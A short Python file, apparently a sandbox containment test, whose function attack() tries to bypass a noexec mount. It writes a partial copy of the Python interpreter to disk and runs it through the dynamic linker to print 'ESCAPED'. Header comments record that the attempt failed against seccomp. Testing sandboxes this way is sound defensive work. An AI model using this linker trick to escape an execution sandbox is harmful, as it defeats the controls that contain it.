# tries: has the dynamic linker execute a written program
# wall: seccomp; noexec: the linker cannot map it
# outcome: unmet
# outcome when cold: incomplete
# got when warm: 'ENOENT'
# machine: x86_64

import os
import sys


def attack():
    # As much as one file may hold: the linker maps the beginning first.
    with open(sys.executable, "rb") as ours, open("program", "wb") as program:
        program.write(ours.read(500_000))
    os.execv("/lib64/ld-linux-x86-64.so.2", ["ld", "./program", "-c", "print('ESCAPED')"])
